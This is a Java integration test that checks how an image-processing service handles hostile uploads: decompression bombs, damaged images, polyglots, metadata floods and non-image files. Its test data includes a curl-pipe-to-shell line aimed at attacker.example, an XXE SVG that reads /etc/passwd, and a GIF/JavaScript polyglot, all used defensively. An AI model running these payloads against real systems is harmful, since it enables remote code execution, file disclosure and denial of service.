package io.stillwater.standalone;

import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

import com.fasterxml.jackson.databind.JsonNode;
import io.stillwater.CraftedImages;
import io.stillwater.ServiceClient;
import io.stillwater.TestImages;
import io.stillwater.image.ImageFormat;
import java.io.IOException;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.time.Duration;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.MethodOrderer;
import org.junit.jupiter.api.Order;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestMethodOrder;

/**
 * The built jar on its embedded defaults in a 512 MB heap, fed hostile files and then a stream of
 * sources at the size limits. The JVM runs with {@code -XX:+ExitOnOutOfMemoryError}, so an
 * OutOfMemoryError anywhere, even one something caught, ends the process and fails the test.
 */
@TestMethodOrder(MethodOrderer.OrderAnnotation.class)
class HostileInputIT {

    /** The default {@code stillwater.limits.max-pixels}. */
    private static final long MAX_PIXELS = 50_000_000;
    /** The default {@code stillwater.limits.max-bytes}, 50 MB. */
    private static final long MAX_BYTES = 50L * 1024 * 1024;
    /** 8660 × 5773 = 49,994,180 pixels: the largest 3:2 image within the pixel limit. */
    private static final int MAX_WIDTH = 8660;
    private static final int MAX_HEIGHT = 5773;

    private static ServiceProcess service;
    private static ServiceClient client;

    @BeforeAll
    static void startTheServiceInA512MbHeap() throws IOException {
        Path work = LocalProcesses.workDirectory("hostile-input");
        service = ServiceProcess.start(LocalProcesses.buildPath("stillwater.it.jar"), "hostile-input",
                work.resolve("service.log"), Map.of(),
                List.of("-Xmx512m", "-XX:+ExitOnOutOfMemoryError", "-Xlog:gc:file=" + work.resolve("gc.log")),
                "--stillwater.data-dir=" + work.resolve("data"),
                "--stillwater.storage.embedded.port=0",
                // The same maximum-size image is sent several times: each must be a job of its own.
                "--stillwater.cache.enabled=false",
                "--camel.main.name=hostile-input-it");
        service.awaitReady(Duration.ofSeconds(180));
        client = service.client();
    }

    @AfterAll
    static void stop() {
        if (service != null) {
            service.close();
        }
    }

    /** What the service must answer: a problem at intake, or a job that ends a certain way. */
    private record Expected(int intakeStatus, String code, String field, Long limit, String jobStatus) {

        static Expected refused(int status, String code, String field, Long limit) {
            return new Expected(status, code, field, limit, null);
        }

        static Expected failed(String code) {
            return new Expected(202, code, null, null, "failed");
        }

        static Expected succeeded() {
            return new Expected(202, null, null, null, "succeeded");
        }
    }

    private record Hostile(String filename, byte[] bytes, Expected expected, byte[] mustNotLeak) {}

    private static List<Hostile> corpus() {
        byte[] photo = TestImages.jpeg(1200, 800);
        byte[] png = TestImages.png(300, 200);
        byte[] exif = CraftedImages.concat("Exif\0\0MM\0*\0\0\0\b".getBytes(StandardCharsets.ISO_8859_1), new byte[65_000]);
        byte[] icc = CraftedImages.concat("ICC_PROFILE\0".getBytes(StandardCharsets.ISO_8859_1), new byte[] {1, (byte) 200},
                new byte[65_000]);
        byte[] zip = CraftedImages.zip("payload.sh", "#!/bin/sh\necho polyglot\n");
        List<Hostile> corpus = new ArrayList<>();
        // Decompression bombs: a few bytes declaring huge dimensions.
        corpus.add(new Hostile("bomb.jpg", CraftedImages.jpegHeaderOnly(60_000, 60_000),
                Expected.refused(422, "image-too-large", "image", MAX_PIXELS), null));
        corpus.add(new Hostile("bomb.png", CraftedImages.pngHeaderOnly(60_000, 60_000),
                Expected.refused(422, "image-too-large", "image", MAX_PIXELS), null));
        corpus.add(new Hostile("bomb.gif", CraftedImages.gifWithFrame(60_000, 60_000, 60_000, 60_000),
                Expected.refused(422, "image-too-large", "image", MAX_PIXELS), null));
        corpus.add(new Hostile("hidden-frame.gif", CraftedImages.gifWithFrame(10, 10, 40_000, 40_000),
                Expected.refused(422, "image-too-large", "image", MAX_PIXELS), null));
        int[] colours = new int[1001];
        Arrays.fill(colours, 0x336699);
        corpus.add(new Hostile("frames.gif", CraftedImages.animatedGif(4, 4, colours),
                Expected.refused(422, "image-too-large", "image", 1000L), null));
        // A PNG whose IDAT inflates a thousandfold within legal dimensions (143 KB to 147 MB: a black
        // 7000 x 7000 image), and one whose IDAT inflates to 512 MiB behind a 64 x 64 header.
        corpus.add(new Hostile("idat-bomb.png", CraftedImages.pngOfZeros(7000, 7000, 7000L * (1 + 3 * 7000)),
                Expected.succeeded(), null));
        corpus.add(new Hostile("idat-overflow.png", CraftedImages.pngOfZeros(64, 64, 1L << 29),
                Expected.succeeded(), null));
        // Damaged JPEGs.
        corpus.add(new Hostile("truncated.jpg", TestImages.truncated(photo, 0.5), Expected.failed("corrupt-image"), null));
        corpus.add(new Hostile("noise.jpg", CraftedImages.jpegWithNoise(photo, 7), Expected.failed("corrupt-image"), null));
        // Not images at all, whatever the name says.
        corpus.add(new Hostile("empty.jpg", new byte[0], Expected.refused(400, "invalid-request", "image", null), null));
        corpus.add(new Hostile("notes.jpg", "Meeting notes: nothing to see here.\n".getBytes(StandardCharsets.UTF_8),
                Expected.refused(415, "unsupported-image", "image", null), null));
        corpus.add(new Hostile("install.jpg", "#!/bin/sh\ncurl -s http://attacker.example/x | sh\n"
                .getBytes(StandardCharsets.UTF_8), Expected.refused(415, "unsupported-image", "image", null), null));
        corpus.add(new Hostile("xxe.svg", ("<?xml version=\"1.0\"?>\n<!DOCTYPE svg [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]>\n"
                + "<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"100\" height=\"100\"><text>&xxe;</text></svg>\n")
                .getBytes(StandardCharsets.UTF_8), Expected.refused(415, "unsupported-image", "image", null), null));
        // Polyglots: valid images that are also a script or an archive. Only their pixels go on.
        corpus.add(new Hostile("polyglot.gif", CraftedImages.gifJavaScriptPolyglot("alert(document.domain);"),
                Expected.succeeded(), "alert(".getBytes(StandardCharsets.US_ASCII)));
        corpus.add(new Hostile("polyglot.jpg", CraftedImages.concat(photo, zip), Expected.succeeded(),
                "payload.sh".getBytes(StandardCharsets.US_ASCII)));
        // Huge metadata: 45 MB of APP1 (EXIF) or APP2 (ICC profile) segments, 40 MB of PNG text, and
        // zTXt and iTXt chunks of 512 KB that inflate to 512 MiB each.
        corpus.add(new Hostile("app1-flood.jpg", CraftedImages.withJpegSegments(photo, 0xE1, exif, 700),
                Expected.succeeded(), null));
        corpus.add(new Hostile("app2-flood.jpg", CraftedImages.withJpegSegments(photo, 0xE2, icc, 700),
                Expected.succeeded(), null));
        corpus.add(new Hostile("text-flood.png", CraftedImages.withPngChunk(png, "tEXt",
                CraftedImages.pngTextChunk("tEXt", "Comment", new byte[40 << 20])), Expected.succeeded(), null));
        for (String type : List.of("zTXt", "iTXt")) {
            corpus.add(new Hostile(type.toLowerCase() + "-bomb.png", CraftedImages.withPngChunk(png, type,
                    CraftedImages.pngTextChunk(type, "Comment", CraftedImages.deflatedZeros(1L << 29))),
                    Expected.succeeded(), null));
        }
        // One byte over the byte limit.
        byte[] tooLarge = Arrays.copyOf(photo, (int) MAX_BYTES + 1);
        corpus.add(new Hostile("too-large.jpg", tooLarge, Expected.refused(413, "payload-too-large", "image", MAX_BYTES),
                null));
        return corpus;
    }

    @Test
    @Order(1)
    void everyHostileFileIsRefusedAtIntakeOrEndsWithItsReasonAndTheServiceCarriesOn() {
        Map<String, Hostile> accepted = new LinkedHashMap<>();
        for (Hostile hostile : corpus()) {
            ServiceClient.Answer answer = client.upload(hostile.bytes(), hostile.filename(), "image/jpeg", null);
            Expected expected = hostile.expected();
            assertThat(answer.status()).as("%s: %s", hostile.filename(), answer.body()).isEqualTo(expected.intakeStatus());
            if (expected.jobStatus() == null) {
                assertThat(answer.contentType().toString()).as(hostile.filename()).startsWith("application/problem+json");
                assertThat(answer.body().path("type").asText()).as(hostile.filename())
                        .isEqualTo("urn:stillwater:problem:" + expected.code());
                assertThat(answer.body().path("field").asText(null)).as(hostile.filename()).isEqualTo(expected.field());
                if (expected.limit() != null) {
                    assertThat(answer.body().path("limit").asLong()).as(hostile.filename()).isEqualTo(expected.limit());
                }
            } else {
                accepted.put(answer.body().path("id").asText(), hostile);
            }
        }

        await("every accepted hostile job ended").atMost(Duration.ofMinutes(2)).pollInterval(Duration.ofMillis(500))
                .untilAsserted(() -> assertThat(accepted.keySet()).allSatisfy(id ->
                        assertThat(client.job(id).path("status").asText()).isIn("succeeded", "failed")));
        for (Map.Entry<String, Hostile> entry : accepted.entrySet()) {
            Hostile hostile = entry.getValue();
            JsonNode job = client.job(entry.getKey());
            assertThat(job.path("status").asText()).as("%s: %s", hostile.filename(), job)
                    .isEqualTo(hostile.expected().jobStatus());
            if (hostile.expected().code() != null) {
                assertThat(job.path("error").path("code").asText()).as("%s: %s", hostile.filename(), job)
                        .isEqualTo(hostile.expected().code());
            } else {
                HttpResponse<byte[]> rendition = client.download(job.path("outputs").get(0).path("url").asText());
                assertThat(rendition.statusCode()).isEqualTo(200);
                assertThat(ImageFormat.sniff(rendition.body())).as(hostile.filename()).contains(ImageFormat.JPEG);
                if (hostile.mustNotLeak() != null) {
                    assertThat(indexOf(rendition.body(), hostile.mustNotLeak()))
                            .as("%s: the payload in the rendition", hostile.filename()).isEqualTo(-1);
                }
            }
        }

        assertStillServing();
        String next = client.upload(TestImages.jpeg(800, 600), "after.jpg", "image/jpeg", null).body().path("id").asText();
        awaitSucceeded(List.of(next), Duration.ofSeconds(60));
    }

    @Test
    @Order(2)
    void aStreamOfMaximumSizeSourcesIsRenderedWhereItFitsAndRefusedWithItsReasonWhereNot() {
        byte[] maxPixels = TestImages.jpeg(MAX_WIDTH, MAX_HEIGHT);
        // The same pixels, padded with comment segments to just under the byte limit.
        byte[] comment = new byte[65_000];
        Arrays.fill(comment, (byte) 'x');
        int segments = (int) ((MAX_BYTES - maxPixels.length) / (comment.length + 4));
        byte[] maxBoth = CraftedImages.withJpegSegments(maxPixels, 0xFE, comment, segments);
        assertThat((long) maxBoth.length).isLessThanOrEqualTo(MAX_BYTES).isGreaterThan(MAX_BYTES - 70_000);

        // Re-encoding at full size (`compressed`) decodes every pixel: about 12 bytes a pixel, 600 MB for 50 MP,
        // more than this heap's 256 MB budget. Those jobs fail at once with the reason, before decoding; the
        // downscales, decoded at reduced size, fit and succeed; and the service stays up throughout.
        List<String> ids = new ArrayList<>();
        String[][] stream = {
            {"urgent", "compressed"}, {"normal", "web"}, {"background", "compressed"},
            {"urgent", "web"}, {"normal", "thumbnail"}, {"background", "compressed"},
        };
        for (int i = 0; i < stream.length; i++) {
            byte[] source = i % 2 == 0 ? maxPixels : maxBoth;
            ServiceClient.Answer answer = client.uploadRaw(source, "image/jpeg",
                    "priority=" + stream[i][0] + "&preset=" + stream[i][1]);
            assertThat(answer.status()).as("job %d: %s", i, answer.body()).isEqualTo(202);
            assertThat(answer.body().path("source").path("width").asInt()).isEqualTo(MAX_WIDTH);
            ids.add(answer.body().path("id").asText());
        }

        await("every job ended").atMost(Duration.ofMinutes(3)).pollInterval(Duration.ofSeconds(1)).until(() -> {
            assertThat(service.isRunning()).as("the service process is alive").isTrue();
            return ids.stream().map(client::job).map(job -> job.path("status").asText())
                    .noneMatch(status -> status.equals("queued") || status.equals("processing"));
        });
        for (int i = 0; i < stream.length; i++) {
            JsonNode job = client.job(ids.get(i));
            if (stream[i][1].equals("compressed")) {
                assertThat(job.path("status").asText()).as("job %d: %s", i, job).isEqualTo("failed");
                assertThat(job.path("error").path("code").asText()).isEqualTo("image-too-large");
                assertThat(job.path("error").path("message").asText()).contains("stillwater.engine.memory-budget");
                assertThat(job.path("attempts").asInt()).as("not retried").isEqualTo(1);
            } else {
                assertThat(job.path("status").asText()).as("job %d: %s", i, job).isEqualTo("succeeded");
                assertThat(job.path("outputs").get(0).path("width").asInt()).isLessThan(MAX_WIDTH);
            }
        }
        assertThat(service.log()).contains("renders and uploads in flight may hold");
        assertStillServing();
    }

    private static void awaitSucceeded(List<String> ids, Duration patience) {
        await("jobs succeeded").atMost(patience).pollInterval(Duration.ofSeconds(1)).untilAsserted(() -> {
            assertThat(service.isRunning()).as("the service process is alive").isTrue();
            assertThat(ids).allSatisfy(id -> {
                JsonNode job = client.job(id);
                String status = job.path("status").asText();
                if (!List.of("queued", "processing", "succeeded").contains(status)) {
                    throw new IllegalStateException("job %s ended %s: %s".formatted(id, status, job));
                }
                assertThat(status).as("job %s", id).isEqualTo("succeeded");
            });
        });
    }

    private static void assertStillServing() {
        assertThat(service.isRunning()).as("the service process is alive:\n%s", service.logTail()).isTrue();
        assertThat(client.get("/actuator/health").status()).isEqualTo(200);
        assertThat(service.log()).doesNotContain("OutOfMemoryError");
    }

    private static int indexOf(byte[] data, byte[] pattern) {
        outer:
        for (int i = 0; i + pattern.length <= data.length; i++) {
            for (int j = 0; j < pattern.length; j++) {
                if (data[i + j] != pattern[j]) {
                    continue outer;
                }
            }
            return i;
        }
        return -1;
    }
}
